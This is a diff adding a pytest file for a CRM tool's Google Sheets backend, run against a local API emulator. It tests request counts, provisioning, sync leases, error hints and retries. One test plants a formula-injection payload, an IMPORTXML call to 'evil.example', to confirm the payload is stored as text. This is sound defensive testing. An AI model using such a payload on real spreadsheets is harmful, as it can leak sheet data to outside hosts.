@@ -1,0 +1,205 @@
+"""The Google Sheets backend against the local Sheets API stand-in (real HTTP on loopback):
+request budget, RAW writes, provisioning, the lease, errors and bounded retries."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime, timedelta
+
+import pytest
+from google.auth.credentials import AnonymousCredentials
+
+from sheetcrm.backends import open_backend
+from sheetcrm.backends.google import LEASE_TAB, GoogleBackend, spreadsheet_id
+from sheetcrm.backends.sheets_http import SheetsHTTP
+from sheetcrm.errors import BackendError
+from sheetcrm.schema import LEADS
+from sheetcrm.sync import sync_once
+from sheets import NOW, emulator, google_backend, template
+
+CLOCK = datetime(2026, 11, 23, 15, 0, tzinfo=UTC)
+
+
+def _fresh(backend: GoogleBackend) -> GoogleBackend:
+    """The same sheet through a new backend: what a new process (cron, CLI) starts with."""
+    return GoogleBackend(backend.location, http=backend.http)
+
+
+def _book(backend: GoogleBackend):
+    return emulator().store[backend.id]
+
+
+def test_sheet_locations():
+    sid = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-abcd"
+    assert spreadsheet_id(f"https://docs.google.com/spreadsheets/d/{sid}/edit#gid=0") == sid
+    assert spreadsheet_id(sid) == sid
+    assert spreadsheet_id("crm.xlsx") is None
+    assert type(open_backend("crm.xlsx")).__name__ == "WorkbookBackend"
+
+
+@pytest.mark.parametrize("extra_leads", [0, 500])
+def test_a_sync_costs_five_requests_whatever_the_row_count(extra_leads):
+    tabs = template()
+    leads = tabs[LEADS.name]
+    for i in range(extra_leads):
+        row = [""] * len(leads.header)
+        row[leads.col("Email")] = f"lead{i}@firm{i}.example"
+        leads.rows.append(row)
+    backend = _fresh(google_backend(tabs))
+    emu = emulator()
+    emu.reset_stats()
+    _, report = sync_once(backend, NOW, CLOCK)
+    stats = emu.stats()
+    assert report.cells > 100
+    assert stats["total"] == 5, stats["byEndpoint"]
+    assert stats["byEndpoint"] == {
+        "values.batchGet": 2,
+        "values.update": 1,
+        "values.batchUpdate": 1,
+        "values.append": 1,
+    }
+    emu.reset_stats()
+    _, again = sync_once(_fresh(backend), NOW, CLOCK)
+    assert again.cells == 0 and not again.written
+    assert emulator().stats()["byEndpoint"].get("values.batchUpdate", 0) == 0
+
+
+def test_every_write_is_raw_so_text_never_becomes_a_formula():
+    tabs = template()
+    t = tabs[LEADS.name]
+    t.rows[0][t.col("Company")] = '=IMPORTXML("http://evil.example","//a")'
+    t.rows[1][t.col("Phone")] = "0612345678"
+    backend = google_backend(tabs)
+    sync_once(backend, NOW, CLOCK)
+    book = _book(backend)
+    for request in book.log:
+        assert "USER_ENTERED" not in str(request)
+    snapshot = backend.read()
+    leads = snapshot.table(LEADS.name)
+    assert leads.rows[0][leads.col("Company")] == '=IMPORTXML("http://evil.example","//a")'
+    assert leads.rows[1][leads.col("Phone")] == "0612345678"  # never numericised
+    assert leads.rows[0][leads.col("Score")].lstrip("-").isdigit()
+
+
+def test_provisioning_twice_changes_nothing():
+    backend = google_backend()
+    sheet = _book(backend).sheet(LEADS.name)
+    rules, protected = len(sheet.conditional_formats), len(sheet.protected_ranges)
+    assert rules == 5 and protected >= 10
+    before = backend.read()
+    backend.provision(template())
+    assert len(sheet.conditional_formats) == rules
+    assert len(sheet.protected_ranges) == protected
+    assert backend.read().tabs == before.tabs
+    assert all(r["warningOnly"] for r in sheet.protected_ranges)
+
+
+def test_provisioning_a_sheet_whose_leads_tab_is_sheet_zero():
+    emu = emulator()
+    book = emu.store.create("crm", sheets=("Leads",))
+    http = SheetsHTTP(AnonymousCredentials(), emulator_host=emu.host, sleep=lambda _: None)
+    backend = GoogleBackend(book.spreadsheet_id, http=http)
+    backend.provision(template())
+    backend.provision(template())
+    assert len(book.sheet(LEADS.name).conditional_formats) == 5
+
+
+def test_a_person_sorting_mid_sync_is_planned_against():
+    backend = google_backend()
+    sync_once(backend, NOW, CLOCK)
+    book = _book(backend)
+    leads = book.sheet(LEADS.name)
+
+    def person_edits(store):
+        row = leads.values()[3]  # a person moves lead 3 to Won, then sorts by company
+        leads.set_values("K4", [["Won"]])
+        leads.sort_rows("Company", descending=True)
+        assert row
+
+    emulator().before_request(person_edits, when=lambda info: info.kind == "write")
+    sync_once(_fresh(backend), NOW + timedelta(hours=1), CLOCK)
+    snapshot = backend.read()
+    table = snapshot.table(LEADS.name)
+    ids = table.column("Lead ID")
+    assert len(ids) == len(set(ids)) == 50
+    # the next sync sees the stage change and stamps it on the right lead
+    sync_once(_fresh(backend), NOW + timedelta(hours=2), CLOCK)
+    table = backend.read().table(LEADS.name)
+    won = [
+        r
+        for r in table.rows
+        if r[table.col("Stage")] == "Won" and r[table.col("Closed at")] == "2026-11-23 12:00"
+    ]
+    assert len(won) == 1
+
+
+def test_one_sync_at_a_time():
+    backend = google_backend()
+    sync_once(backend, NOW, CLOCK)
+    until = (CLOCK + timedelta(minutes=5)).isoformat(timespec="seconds")
+    _book(backend).sheet(LEASE_TAB).set_values("A1", [["cron-7", until]])
+    with pytest.raises(BackendError, match=r"another sync \(cron-7\) is running"):
+        sync_once(_fresh(backend), NOW, CLOCK)
+    # a lease left by a crash expires on its own
+    sync_once(_fresh(backend), NOW, CLOCK + timedelta(minutes=6))
+    assert _book(backend).sheet(LEASE_TAB).values() in ([], [["", ""]], [[]])
+
+
+def test_a_sync_taken_over_mid_way_writes_nothing():
+    backend = google_backend()
+    sheet = _book(backend).sheet(LEASE_TAB)
+    batch_gets = []
+
+    def second_read(info) -> bool:  # the re-read just before writing, after the lease
+        if info.endpoint == "values.batchGet":
+            batch_gets.append(info)
+        return len(batch_gets) == 2
+
+    emulator().before_request(
+        lambda store: sheet.set_values("A1", [["other", "2099-01-01T00:00:00+00:00"]]),
+        when=second_read,
+    )
+    before = backend.read().table(LEADS.name)
+    batch_gets.clear()
+    with pytest.raises(BackendError, match="took over"):
+        sync_once(_fresh(backend), NOW, CLOCK)
+    assert backend.read().table(LEADS.name) == before
+
+
+def test_not_shared_and_wrong_id_say_what_to_do():
+    backend = google_backend(provision=False)
+    _book(backend).shared = False
+    with pytest.raises(BackendError) as denied:
+        backend.read()
+    assert "share the sheet with" in denied.value.hint and "Editor" in denied.value.hint
+    http = backend.http
+    missing = GoogleBackend("1" + "x" * 43, http=http)
+    with pytest.raises(BackendError) as unknown:
+        missing.read()
+    assert "no spreadsheet with ID" in unknown.value.message
+    assert "docs.google.com/spreadsheets/d/" in unknown.value.hint
+
+
+def test_missing_credentials_say_what_to_do(monkeypatch, tmp_path):
+    monkeypatch.delenv("SHEETS_EMULATOR_HOST", raising=False)
+    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(tmp_path / "no-such-key.json"))
+    with pytest.raises(BackendError) as caught:
+        GoogleBackend("1" + "y" * 43)
+    assert "GOOGLE_APPLICATION_CREDENTIALS" in caught.value.hint
+
+
+def test_transient_errors_are_retried_a_bounded_number_of_times():
+    backend = google_backend()
+    emu = emulator()
+    emu.inject(503, 429, "drop")
+    assert backend.read().get(LEADS.name) is not None  # the fourth try answers
+    waits: list[float] = []
+    http = SheetsHTTP(
+        AnonymousCredentials(), emulator_host=emu.host, attempts=4, sleep=waits.append
+    )
+    stubborn = GoogleBackend(backend.location, http=http)
+    emu.inject(*[503] * 4)
+    with pytest.raises(BackendError, match="503"):
+        stubborn.read()
+    assert len(waits) == 3  # 4 tries, 3 pauses
+    assert all(0 < w <= 16 for w in waits) and waits[0] < waits[-1]
+    emu.limits.clear_injected()  # nothing left over for other tests
